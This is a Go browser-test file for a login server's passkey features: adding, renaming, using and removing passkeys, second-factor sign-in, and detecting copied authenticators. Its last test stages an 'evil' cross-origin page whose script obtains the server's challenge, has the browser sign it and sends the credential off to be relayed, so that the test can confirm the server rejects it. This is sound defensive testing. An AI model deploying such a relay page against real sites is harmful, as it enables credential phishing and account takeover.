package main

import (
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"gatehouse/config"
	"gatehouse/internal/test/chromium"
	"gatehouse/internal/test/testkit"
	"gatehouse/store"
)

// openLocally starts a gate at localhost: an issuer with an IP address has no passkeys.
func openLocally(t *testing.T, changes ...func(*config.Config)) *gate {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatalf("listening: %v", err)
	}
	issuer := fmt.Sprintf("http://localhost:%d", l.Addr().(*net.TCPAddr).Port)
	g := &gate{t: t}
	g.app = startApp(t, slog.New(slog.NewJSONHandler(&g.log, nil)), func(cfg *config.Config) {
		cfg.Issuer, cfg.Audience = issuer, issuer
		for _, change := range changes {
			change(cfg)
		}
	})
	g.door = httptest.NewUnstartedServer(g.handler)
	_ = g.door.Listener.Close()
	g.door.Listener = l
	g.door.Start()
	t.Cleanup(g.door.Close)
	g.door.URL = issuer
	g.ann = g.person("ann", "user")
	g.shop("shop", func(*store.Client) {})
	return g
}

// TestPasskeysInARealBrowser makes a passkey in Chromium, signs in with it, and removes it.
func TestPasskeysInARealBrowser(t *testing.T) {
	tab := chromium.Open(t)
	g := openLocally(t)
	keys := tab.Authenticator()
	tab.Run("signing in by password", chromedp.Navigate(g.door.URL+"/login?to=%2Faccount%2Fpasskeys"), chromedp.WaitVisible(chromedp.ID("username")),
		chromedp.SendKeys(chromedp.ID("username"), "ann"), chromedp.SendKeys(chromedp.ID("password"), secretPhrase+"\r"), chromedp.WaitVisible(chromedp.CSS(`form[data-passkey="create"]`)))
	addPasskey(tab)
	tab.Says("The passkey was added.", "Added", "never")
	made := keys.Passkeys()
	if len(made) != 1 || !made[0].IsResidentCredential || string(made[0].UserHandle) != g.ann.Sub || made[0].RpID != "localhost" {
		t.Fatalf("the authenticator has %+v, want a discoverable passkey of ann's for localhost", made)
	}
	tab.Run("the same authenticator again", chromedp.Click(chromedp.CSS(`form[data-passkey="create"] button`)), chromedp.WaitVisible(chromedp.CSS(`form[data-passkey="create"] [role="status"]`)))
	tab.Says("This device has a passkey of yours already.")
	tab.Run("giving it a name", chromedp.Click(chromedp.CSS(".passkeys summary")), chromedp.WaitVisible(chromedp.CSS(`.passkeys input[name="name"]`)),
		chromedp.Clear(chromedp.CSS(`.passkeys input[name="name"]`)), chromedp.SendKeys(chromedp.CSS(`.passkeys input[name="name"]`), "My phone\r"), chromedp.WaitNotPresent(chromedp.CSS("details[open]")))
	tab.Says("The passkey was renamed.", "My phone")

	g.signOut(tab)
	tab.Run("the browser offers it", chromedp.Navigate(g.door.URL+"/login?to=%2Faccount%2Fpasskeys"), chromedp.WaitVisible(chromedp.CSS(".passkeys li")))
	tab.Says("My phone")

	g.signOut(tab)
	keys.Absent(true)
	keys.Rewind(keys.Passkeys()[0], 1000)
	tab.Run("by the button", chromedp.Navigate(g.door.URL+"/login?to=%2Faccount%2Fpasskeys"), chromedp.WaitVisible(chromedp.CSS(`form[data-passkey="get"] button`)))
	keys.Absent(false)
	tab.Run("by the button", chromedp.Click(chromedp.CSS(`form[data-passkey="get"] button`)), chromedp.WaitVisible(chromedp.CSS(".passkeys li")))

	g.signOut(tab)
	keys.Absent(true)
	keys.Rewind(keys.Passkeys()[0], 1)
	tab.Run("with a copy", chromedp.Navigate(g.door.URL+"/login"), chromedp.WaitVisible(chromedp.CSS(`form[data-passkey="get"] button`)))
	keys.Absent(false)
	tab.Run("with a copy", chromedp.Click(chromedp.CSS(`form[data-passkey="get"] button`)))
	testkit.Within(t, 20*time.Second, "the copy is noted as ann's", func() error {
		events, err := g.db.ListAudit(t.Context(), store.AuditQuery{Kind: "passkey.copied", Limit: 1})
		if err == nil && (len(events) != 1 || events[0].Subject != "user:"+g.ann.Sub) {
			err = fmt.Errorf("events %+v", events)
		}
		return err
	})
	// The virtual authenticator answers by itself whenever a page offers a passkey, and so
	// replaces each page of the refusal by the next, until it is gone.
	keys.Absent(true)
	tab.Run("with a copy", chromedp.WaitVisible(chromedp.CSS(`[role="alert"]`)))
	tab.Run("leaving", chromedp.Navigate(g.door.URL+"/"), chromedp.WaitVisible(chromedp.CSS("main h1")))
	tab.Quiet()
}

// After the password, a passkey is asked for, and takes the place of both.
func TestAPasskeyIsASecondFactor(t *testing.T) {
	tab := chromium.Open(t)
	g := openLocally(t)
	keys := tab.Authenticator()
	byPassword := []chromedp.Action[chromedp.Void]{
		chromedp.Navigate(g.door.URL + "/login?to=%2Faccount%2Fpasskeys"), chromedp.WaitVisible(chromedp.ID("username")),
		chromedp.SendKeys(chromedp.ID("username"), "ann"), chromedp.SendKeys(chromedp.ID("password"), secretPhrase+"\r"),
	}
	tab.Run("signing in by password", append(byPassword, chromedp.WaitVisible(chromedp.CSS(`form[data-passkey="create"]`)))...)
	addPasskey(tab)
	g.signOut(tab)
	keys.Absent(true)
	tab.Run("signing in by password", append(byPassword, chromedp.WaitVisible(chromedp.ID("recovery_code")), chromedp.WaitVisible(chromedp.CSS(`form[data-passkey="get"] button`)))...)
	keys.Absent(false)
	tab.Run("and a passkey", chromedp.Click(chromedp.CSS(`form[data-passkey="get"] button`)), chromedp.WaitVisible(chromedp.CSS(".passkeys li")))
	tab.Quiet()
}

// A passkey that is removed is not offered any more: the page tells the browser.
func TestAPasskeyIsRemovedInARealBrowser(t *testing.T) {
	tab := chromium.Open(t)
	g := openLocally(t)
	keys := tab.Authenticator()
	tab.Run("signing in by password", chromedp.Navigate(g.door.URL+"/login?to=%2Faccount%2Fpasskeys"), chromedp.WaitVisible(chromedp.ID("username")),
		chromedp.SendKeys(chromedp.ID("username"), "ann"), chromedp.SendKeys(chromedp.ID("password"), secretPhrase+"\r"), chromedp.WaitVisible(chromedp.CSS(`form[data-passkey="create"]`)))
	addPasskey(tab)
	user, err := g.db.UserByID(t.Context(), g.ann.ID)
	if err != nil || !user.Factors.Has(store.FactorPasskey) {
		t.Errorf("factors %v, %v; want a passkey among them", user.Factors, err)
	}
	// The person signed in by password alone. Now that there is more, more is asked for, and
	// the browser offers it.
	remove := []chromedp.Action[chromedp.Void]{
		chromedp.Click(chromedp.CSS(".passkeys details:last-of-type summary")), chromedp.WaitVisible(chromedp.CSS(".passkeys button.danger")),
		chromedp.Click(chromedp.CSS(".passkeys button.danger")),
	}
	tab.Run("removing it", append(remove, chromedp.WaitNotPresent(chromedp.CSS(".passkeys details[open]")), chromedp.WaitVisible(chromedp.CSS(".passkeys li")))...)
	tab.Run("removing it", append(remove, chromedp.WaitNotPresent(chromedp.CSS(".passkeys li")))...)
	tab.Says("The passkey was removed", "You have no passkeys yet.")
	if user, err = g.db.UserByID(t.Context(), g.ann.ID); err != nil || user.Factors.Has(store.FactorPasskey) {
		t.Errorf("factors %v, %v; want no passkey among them", user.Factors, err)
	}
	testkit.Within(t, 10*time.Second, "the browser forgets the passkey", func() error {
		if n := len(keys.Passkeys()); n != 0 {
			return fmt.Errorf("it has %d", n)
		}
		return nil
	})
	tab.Quiet()
}

// addPasskey adds a first passkey, with which recovery codes come.
func addPasskey(tab *chromium.Tab) {
	tab.Run("adding a passkey", chromedp.Click(chromedp.CSS(`form[data-passkey="create"] button`)), chromedp.WaitVisible(chromedp.ID("codes")),
		chromedp.Click(chromedp.CSS(".actions a:last-child")), chromedp.WaitVisible(chromedp.CSS(".passkeys li")))
}

// signOut signs the browser out, and waits until it is.
func (g *gate) signOut(tab *chromium.Tab) {
	tab.Run("signing out", chromedp.Navigate(g.door.URL+"/logout"), chromedp.WaitVisible(chromedp.CSS(`form[action="/logout"] button`)),
		chromedp.Click(chromedp.CSS(`form[action="/logout"] button`)), chromedp.WaitNotPresent(chromedp.CSS(`form[action="/logout"]`)))
}

// A page of another origin has the browser sign the server's challenge, and sends the
// answer on. The server does not accept it.
func TestAPasskeyIsWorthNothingElsewhere(t *testing.T) {
	tab := chromium.Open(t)
	g := openLocally(t)
	_ = tab.Authenticator()
	tab.Run("signing in by password", chromedp.Navigate(g.door.URL+"/login?to=%2Faccount%2Fpasskeys"), chromedp.WaitVisible(chromedp.ID("username")),
		chromedp.SendKeys(chromedp.ID("username"), "ann"), chromedp.SendKeys(chromedp.ID("password"), secretPhrase+"\r"), chromedp.WaitVisible(chromedp.CSS(`form[data-passkey="create"]`)))
	addPasskey(tab)
	g.signOut(tab)

	passed := make(chan string, 1)
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/options":
			resp, err := http.PostForm(g.door.URL+"/login/passkey/options", nil)
			if err != nil {
				http.Error(w, err.Error(), http.StatusBadGateway)
				return
			}
			defer resp.Body.Close()
			_, _ = io.Copy(w, resp.Body)
		case "/passed":
			resp, err := http.PostForm(g.door.URL+"/login/passkey", url.Values{"passkey": {r.FormValue("passkey")}})
			if err != nil {
				http.Error(w, err.Error(), http.StatusBadGateway)
				return
			}
			defer resp.Body.Close()
			body, _ := io.ReadAll(resp.Body)
			passed <- fmt.Sprint(resp.StatusCode, " ", strings.Contains(string(body), "not accepted"), " ", len(resp.Cookies()))
		case "/":
			_, _ = io.WriteString(w, `<!doctype html><title>evil</title><main id="evil">evil</main><script>
fetch("/options", {method: "POST"}).then(r => r.json())
  .then(o => navigator.credentials.get({publicKey: PublicKeyCredential.parseRequestOptionsFromJSON(o)}))
  .then(c => fetch("/passed", {method: "POST", body: new URLSearchParams({passkey: JSON.stringify(c)})}))</script>`)
		}
	}))
	t.Cleanup(evil.Close)
	tab.Run("visiting another site", chromedp.Navigate(strings.Replace(evil.URL, "127.0.0.1", "localhost", 1)), chromedp.WaitVisible(chromedp.ID("evil")))
	select {
	case got := <-passed:
		if !strings.HasPrefix(got, "422 true") {
			t.Errorf("the answer that the other site got: %s, want 422 and a refusal", got)
		}
	case <-t.Context().Done():
		t.Error("the other site got no answer, want one to pass on")
	}
}
